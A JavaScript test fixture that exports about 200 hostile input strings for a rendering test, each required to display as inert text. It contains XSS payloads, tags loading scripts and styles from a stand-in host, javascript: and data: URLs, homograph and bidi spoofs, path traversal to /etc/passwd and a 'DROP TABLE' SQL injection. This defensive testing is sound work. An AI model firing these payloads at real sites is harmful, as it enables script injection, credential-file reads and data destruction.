// payloads.mjs - 200 texts that hostile people write, for hostile.test.mjs: each must be shown as text
// and do nothing. They are as long as a server takes them, which is 4,000 characters. ELSEWHERE is an address that nothing may ask for.
export const ELSEWHERE = "http://elsewhere.invalid";

const SCRIPTS = [
  "<script>alert(1)</script>", "<script src='//elsewhere.invalid/x.js'></script>", "<img src=x onerror=alert(1)>", "<img src='http://elsewhere.invalid/i.png'>",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>",
  "<embed src='http://elsewhere.invalid/e'>", "<link rel=stylesheet href='http://elsewhere.invalid/s.css'>", "<style>@import 'http://elsewhere.invalid/s.css';</style>",
  "<base href='http://elsewhere.invalid/'>", "<meta http-equiv=refresh content='0;url=http://elsewhere.invalid/'>", "<form action='http://elsewhere.invalid/'><button>go</button></form>",
  "<body onload=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src='http://elsewhere.invalid/a.ogg' autoplay>", "<details open ontoggle=alert(1)>x</details>",
  "<math><mtext></mtext><script>alert(1)</script></math>", "<template><script>alert(1)</script></template>", "<!--><script>alert(1)</script>-->", "]]><script>alert(1)</script>",
  "\"><script>alert(1)</script>", "'-alert(1)-'", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "<scr\u0000ipt>alert(1)</script>", "\u003cimg src=x onerror=alert(1)\u003e", "<a href=javascript:alert(1)>click</a>",
  "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>", "<img src=x style='width:99999px'>", "<div style='position:fixed;inset:0'>over all</div>",
];
const ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript://elsewhere.invalid/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:http://elsewhere.invalid/1", "about:blank", "ftp://elsewhere.invalid/", "view-source:http://elsewhere.invalid/",
  "http://user:password@elsewhere.invalid/", "http:///no-host", "https://elsewhere.invalid\\@example.org/"];
/** Cyrillic and Greek letters that look Latin; the second is what must stand in the page. */
export const HOMOGRAPHS = [["http://\u0430pple.com/", "xn--pple-43d.com"], ["https://p\u0430yp\u0430l.com/", "xn--pypl-53dc.com"], ["https://g\u03bf\u03bfgle.com/", "xn--ggle-0nda.com"]];

const wrapped = (address) => [`[click me](${address})`, `![picture](${address})`, `<${address}>`, `look: ${address} there`];
const bidi = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c"].flatMap((sign) => [`user${sign}gpj.exe`, `${sign}admin: all is well`]);
const zalgo = ["\u0300", "\u0336", "\u0489", "\u20dd", "\u1ab0", "\u05b0"].flatMap((mark) => [`z${mark.repeat(60)}algo`, `a${mark.repeat(20)}`.repeat(40)]);
const huge = ["W".repeat(4_000), "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(700), "\ufdfd".repeat(300), "\u3164".repeat(500), "\u00a0".repeat(3_900) + "end", "\n".repeat(1_500) + "end",
  `a${"\u0300".repeat(3_999)}`, "> ".repeat(500) + "deep", "*".repeat(3_000), "_".repeat(3_000) + "x", "[".repeat(2_000) + "](", "`".repeat(2_000), "- ".repeat(900) + "x", "**a".repeat(900),
  "http://" + "a".repeat(3_000) + ".invalid/", `http://elsewhere.invalid/${"%2e".repeat(600)}`, ":" + "smile:".repeat(600), "@" + "everybody".repeat(400), "#" + "x".repeat(2_000), "\u0007\u001b[2J\u001b]0;title\u0007"];
const others = ["\ud83d", "\udc00x", "\ufeffstart", "a\u2028b\u2029c", "\u{e0041}\u{e0042}tags", "\u180e\u200b\u200c\u200d\u2060", "NaN", "__proto__", "constructor", "toString", "null", "undefined", "[object Object]", "%s%n%x", "../../../../etc/passwd", "'; DROP TABLE messages; --"]
  .map((text) => text.toWellFormed?.() ?? text);

const all = [...SCRIPTS, ...ADDRESSES.flatMap(wrapped), ...HOMOGRAPHS.flatMap(([address]) => [address, `[my bank](${address})`]), ...bidi, ...zalgo, ...huge, ...others];
/** The rest of 200: every script once more inside of what Markdown makes of a text. */
const markdown = SCRIPTS.flatMap((script) => [`**${script}**`, `> ${script}`, `\`${script}\``, `\`\`\`html\n${script}\n\`\`\``, `- ${script}`]);
export const PAYLOADS = [...all, ...markdown].slice(0, 200);
